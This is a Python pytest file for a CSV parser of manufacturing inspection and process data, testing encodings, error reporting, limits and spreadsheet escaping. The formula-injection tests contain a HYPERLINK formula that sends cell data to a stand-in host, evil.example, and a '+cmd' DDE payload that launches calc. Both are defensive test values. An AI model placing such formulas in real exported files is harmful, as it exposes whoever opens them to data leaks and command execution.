"""CSV inspection/process data: values, provenance, encodings, and every documented error."""

from __future__ import annotations

from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from parsers import Limits, escape_for_spreadsheet, source_file
from parsers.csv_ import decode_text, parse_csv, sniff_delimiter
from parsers.errors import (
    EmptyInput,
    InvalidValue,
    LimitExceeded,
    MalformedInput,
    MissingField,
    UnexpectedField,
)

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "inspection"


def load(rel: str, *, limits: Limits | None = None):
    data = (FIXTURES / rel).read_bytes()
    return parse_csv(data, source=source_file(data, format="csv", filename=rel), limits=limits or Limits())


def test_semicolon_decimal_comma_values_and_provenance() -> None:
    batch = load("csv/long_semicolon_decimal_comma.csv")
    assert [(m.sample_id, m.characteristic, m.value) for m in batch.measurements] == [
        ("S001", "bore_diameter", 12.503),
        ("S001", "flatness", 0.012),
        ("S002", "bore_diameter", 12.497),
        ("S002", "flatness", -0.003),
    ]
    first = batch.measurements[0]
    assert (first.uncertainty, first.coverage_factor, first.unit) == (0.004, 2.0, "mm")
    assert batch.measurements[1].uncertainty is None
    assert [m.provenance.row for m in batch.measurements] == [2, 3, 4, 5]
    assert first.provenance.column == "value"
    assert first.provenance.kind == "table"
    assert first.provenance.file_sha256 == batch.source.sha256


def test_bom_header_synonyms_batch_fields_and_extra() -> None:
    batch = load("csv/long_comma_utf8_bom.csv")
    assert (batch.part_number, batch.part_revision, batch.lot_id, batch.lot_size) == (
        "PN-4711",
        "C",
        "LOT-2025-031",
        500,
    )
    m = batch.measurements[2]
    assert m.value == 1200.0
    assert m.measured_at == datetime(2025, 3, 4, 8, 18, tzinfo=timezone(timedelta(hours=8)))
    assert m.extra == {"operator": "zhang", "gauge_id": "HV-02"}
    assert m.provenance.column == "Value"  # the header as written in the file
    assert batch.warnings == []


def test_records_are_plain_canonical_and_deterministic() -> None:
    batch = load("csv/long_comma_utf8_bom.csv")
    assert batch.records()[0] == {
        "sample": "A-1",
        "characteristic": "breakdown_voltage",
        "value": 1203.5,
        "unit": "V",
        "uncertainty": 4.1,
        "coverage_factor": 2.0,
        "measured_at": "2025-03-04T08:15:00+08:00",
    }
    assert load("csv/long_comma_utf8_bom.csv").records() == batch.records()


def test_tab_separated_with_short_synonyms() -> None:
    batch = load("csv/long_tab.tsv")
    assert [(m.sample_id, m.characteristic, m.value, m.unit) for m in batch.measurements] == [
        ("1", "length", 100.01, "mm"),
        ("2", "length", 99.98, "mm"),
    ]


def test_gbk_file_with_chinese_headers_decodes_and_warns() -> None:
    batch = load("csv/gbk_chinese_headers.csv")
    assert [(m.sample_id, m.characteristic, m.value, m.unit) for m in batch.measurements] == [
        ("S1", "外径", 25.012, "毫米"),
        ("S2", "外径", 24.996, "毫米"),
    ]
    assert batch.lot_id == "批次A"
    assert batch.warnings == ["file is not UTF-8; decoded as GB18030"]


def test_german_headers_with_decimal_comma() -> None:
    batch = load("csv/german_headers_decimal_comma.csv")
    assert [m.value for m in batch.measurements] == [10.01, 9.99]
    assert batch.measurements[0].extra == {"operator": "Müller"}


def test_process_csv_fills_only_process() -> None:
    batch = load("csv/process_data.csv")
    assert batch.measurements == []
    assert [(p.variable, p.tier, p.value, p.unit, p.sample_id) for p in batch.process] == [
        ("rf_power", "process", 301.2, "W", None),
        ("chamber_temp", "environment", 22.4, "degC", None),
        ("wafer_resistivity", "material", 8.1, "ohm.cm", "S1"),
        ("wafer_resistivity", "material", 8.3, "ohm.cm", "S2"),
    ]
    assert batch.process[2].provenance.row == 4


def test_process_csv_rejects_unknown_tier() -> None:
    with pytest.raises(InvalidValue, match="'machine' is not one of material") as e:
        load("csv/process_bad_tier.csv")
    assert e.value.facts["row"] == 2


def test_missing_required_column_is_named() -> None:
    with pytest.raises(MissingField, match="'unit'") as e:
        load("csv/missing_unit_column.csv")
    assert e.value.facts["field"] == "unit"


def test_unknown_column_is_named_with_accepted_list() -> None:
    with pytest.raises(UnexpectedField, match="'colour'") as e:
        load("csv/unknown_column.csv")
    assert "sample_id" in e.value.facts["accepted"]
    assert "gauge_id" in str(e.value)


def test_non_numeric_value_names_row_and_column() -> None:
    with pytest.raises(InvalidValue) as e:
        load("csv/non_numeric_value.csv")
    assert (e.value.facts["row"], e.value.facts["column"]) == (3, "value")
    assert "'n/a' is not a number" in str(e.value)


def test_ragged_row_names_row() -> None:
    with pytest.raises(MalformedInput, match="row 3 has 3 cells but the header has 4"):
        load("csv/ragged_row.csv")


def test_header_only_is_empty_input() -> None:
    with pytest.raises(EmptyInput):
        load("csv/header_only.csv")


def test_duplicate_sample_characteristic_names_both_rows() -> None:
    with pytest.raises(InvalidValue, match="rows 2 and 4") as e:
        load("csv/duplicate_sample_characteristic.csv")
    assert e.value.facts["first_row"] == 2


def test_conflicting_batch_field_across_rows() -> None:
    with pytest.raises(InvalidValue, match="'L2' differs from 'L1' in row 2"):
        load("csv/conflicting_lot_id.csv")


def test_negative_uncertainty_rejected() -> None:
    with pytest.raises(InvalidValue, match="negative"):
        load("csv/negative_uncertainty.csv")


def test_formula_cells_are_kept_verbatim_and_numbers_stay_numbers() -> None:
    batch = load("csv/formula_cells.csv")
    m1, m2 = batch.measurements
    assert m1.sample_id == '=HYPERLINK("http://evil.example/?x="&A1)'
    assert m1.value == -1.5
    assert m1.extra == {"operator": "@SUM(1+1)", "gauge_id": "+cmd|' /C calc'!A0"}
    assert (m2.characteristic, m2.value, m2.extra) == ("-2+3", 2.5, {"operator": "-x", "gauge_id": "=1+1"})


def test_formula_in_numeric_column_is_not_a_number() -> None:
    with pytest.raises(InvalidValue, match="'=1\\+1' is not a number"):
        load("csv/formula_in_value_column.csv")


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("-1.5", "-1.5"),
        ("+3e-2", "+3e-2"),
        ("S001", "S001"),
        ("", ""),
    ],
)
def test_escape_for_spreadsheet(cell: str, expected: str) -> None:
    assert escape_for_spreadsheet(cell) == expected


def test_latin1_file_names_byte_offset() -> None:
    with pytest.raises(MalformedInput) as e:
        load("csv/wrong_encoding_latin1.csv")
    data = (FIXTURES / "csv/wrong_encoding_latin1.csv").read_bytes()
    assert e.value.facts["byte_offset"] == data.index(b"\xdf")
    assert "0xdf" in str(e.value)


def test_cp1252_that_gbk_would_decode_is_refused_not_mojibaked() -> None:
    data = (FIXTURES / "csv/wrong_encoding_cp1252_gbk_lookalike.csv").read_bytes()
    with pytest.raises(MalformedInput) as e:
        load("csv/wrong_encoding_cp1252_gbk_lookalike.csv")
    assert e.value.facts["byte_offset"] == data.index(b"\xfc")


def test_bom_then_gbk_bytes_is_read_as_gbk_not_refused_with_a_wrong_reason() -> None:
    """Regression (issue 11): a UTF-8 BOM in front of GBK bytes was refused as "not plausible GBK"."""
    batch = load("csv/bom_then_gbk_bytes.csv")
    assert [m.characteristic for m in batch.measurements] == ["外径"]
    assert any("GB18030" in w for w in batch.warnings)


def test_truncated_quote_is_malformed() -> None:
    with pytest.raises(MalformedInput, match="CSV syntax error"):
        load("csv/truncated_unterminated_quote.csv")


def test_max_rows_limit() -> None:
    with pytest.raises(LimitExceeded) as e:
        load("csv/long_semicolon_decimal_comma.csv", limits=Limits(max_rows=3))
    assert e.value.limit == "max_rows"


def test_max_bytes_limit() -> None:
    with pytest.raises(LimitExceeded, match="max_bytes=10") as e:
        load("csv/long_tab.tsv", limits=Limits(max_bytes=10))
    assert (e.value.limit, e.value.allowed) == ("max_bytes", 10)


def test_decode_text_explicit_encoding_and_errors() -> None:
    assert decode_text("a;ß".encode("latin-1"), "latin-1") == ("a;ß", "latin-1")
    with pytest.raises(MalformedInput, match="declared encoding 'ascii'"):
        decode_text("ß".encode(), "ascii")


@pytest.mark.parametrize(("line", "delim"), [("a;b,c;d", ";"), ("a\tb\tc", "\t"), ("a,b,c", ","), ("abc", ",")])
def test_sniff_delimiter(line: str, delim: str) -> None:
    assert sniff_delimiter(line) == delim


def test_comma_file_does_not_accept_decimal_comma() -> None:
    data = b'sample_id,characteristic,value,unit\nS1,d,"1,5",mm\n'
    with pytest.raises(InvalidValue, match="'1,5' is not a number"):
        parse_csv(data, source=source_file(data, format="csv"))
